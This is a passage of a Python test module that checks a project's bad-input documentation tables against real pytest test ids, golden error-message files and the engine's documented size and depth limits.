DOC = REPO / "docs" / "bad-input.md"
TEST_REF = re.compile(r"`(tests/[\w/]+\.py)::([^`]+)`")


def doc_rows() -> list[list[str]]:
    """The rows of the tables of bad inputs (header 'input | what the user sees | limit | test')."""
    rows: list[list[str]] = []
    header: list[str] = []
    for line in DOC.read_text(encoding="utf-8").splitlines():
        if not line.startswith("|"):
            header = []
            continue
        if re.match(r"^\|[\s:|-]+\|$", line):
            continue
        cells = [c.strip() for c in re.split(r"(?<!\\)\|", line.strip())[1:-1]]
        if not header:
            header = cells
        elif header == ["input", "what the user sees", "limit", "test"]:
            rows.append(cells)
    return rows


def collected(files: set[str]) -> set[str]:
    proc = subprocess.run([sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider",
                           *sorted(files)], cwd=REPO, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return {line.strip() for line in proc.stdout.splitlines() if "::" in line}


def test_documentation_table_names_only_tests_that_exist() -> None:
    rows = doc_rows()
    assert len(rows) >= 40
    refs = [(f, t) for row in rows for f, t in TEST_REF.findall(row[-1])]
    assert all(TEST_REF.search(row[-1]) for row in rows), [r[0] for r in rows if not TEST_REF.search(r[-1])]
    ids = collected({f for f, _ in refs})
    # a test id, or the name of a parametrized test (then every case of it is meant)
    missing = [f"{f}::{t}" for f, t in refs
               if f"{f}::{t}" not in ids and not any(i.startswith(f"{f}::{t}[") for i in ids)]
    assert not missing, missing


def test_documentation_table_lists_every_golden_case_with_its_message() -> None:
    golden = REPO / "tests" / "golden" / "errors"
    cells = {m[1]: row[1] for row in doc_rows() for m in [re.search(r"test_golden\[(\w+)\]", row[-1])] if m}
    assert set(cells) == {p.stem for p in golden.glob("*.yaml")}
    for case, shown in cells.items():
        lines = [html.unescape(s.strip().strip("`")) for s in shown.split("<br>")]
        assert lines == (golden / f"{case}.expected").read_text(encoding="utf-8").splitlines(), case


def test_documented_limits_are_the_engines() -> None:
    text = DOC.read_text(encoding="utf-8")
    for figure in (f"{MAX_BYTES // 1024**2} MiB", f"{MAX_DEPTH} 层", f"{MAX_TITLE:,}", f"{MAX_TEXT:,}",
                   f"{MAX_ITEMS:,}"):
        assert figure in text, figure

